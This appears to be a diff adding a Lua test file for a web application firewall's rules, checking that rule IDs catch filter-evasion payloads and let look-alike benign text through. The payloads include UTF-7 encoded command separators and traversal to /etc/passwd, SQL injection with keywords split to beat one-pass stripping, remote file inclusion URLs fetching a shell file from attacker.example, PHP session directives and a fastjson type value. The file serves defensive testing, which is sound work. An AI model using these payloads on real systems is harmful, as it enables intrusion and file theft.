@@ -1,0 +1,39 @@
+local rule_checks = require "rule_checks"
+
+-- The hundred-and-eighty-third round (tests/edge_security/family_gen_blind_*.py of this round and the
+-- open items of the last): the families found uncovered and the text beside them, value by value.
+describe("edge.waf.rules hundred-and-eighty-third round on", function()
+    local caught_by, clean
+
+    setup(function()
+        caught_by, clean = rule_checks.new(assert)
+    end)
+
+    it("UTF-7 the application decodes: a shell separator, a traversal, a closed SQL string", function()
+        caught_by(132105, { "127.0.0.1+ADs-id" })
+        caught_by(130110, { "+AC4ALgAvAC4ALgAvAC4ALgAv-etc/passwd" })
+        clean({ "SYN+ACK flood on the edge", "the +ADw- thing was UTF-7, closed as won't fix", "ACME Corp +ACME-2025" })
+    end)
+
+    it("SQL: a keyword with the logical operator a filter strips once written inside it", function()
+        caught_by(142300, { "1' oorrder by 3#", "from infoorrmation_schema.tables", "x' uniandon select 1" })
+        clean({ "order by date", "information about the schema", "the tandem and the torus" })
+    end)
+
+    it("RFI: a remote text file behind a scheme with one, three or no slashes, or passed on by another URL", function()
+        caught_by(131130, { "http:attacker.example/shell.txt", "http:/attacker.example/shell.txt",
+            "https:///attacker.example/shell.txt", "http://evil.example/redirect?to=http://attacker.example/s.txt" })
+        clean({ "http: see the spec", "https://example.com/go?to=https://example.com/docs", "rfc9110.txt" })
+    end)
+
+    it("PHP: a session directive that decides where and how sessions are written and kept", function()
+        caught_by(133130, { "session.upload_progress.cleanup=0", "session.serialize_handler = php_serialize",
+            "session.save_path=/tmp" })
+        clean({ "the session.upload_progress docs", "session.save_path is set by the package" })
+    end)
+
+    it("Java: fastjson's URL type as a whole value (a JSON \"@type\" the decoder reads alone)", function()
+        caught_by(144200, { "java.net.URL", " java.net.url " })
+        clean({ "java.net.URL is a final class", "see the java.net.URL docs" })
+    end)
+end)
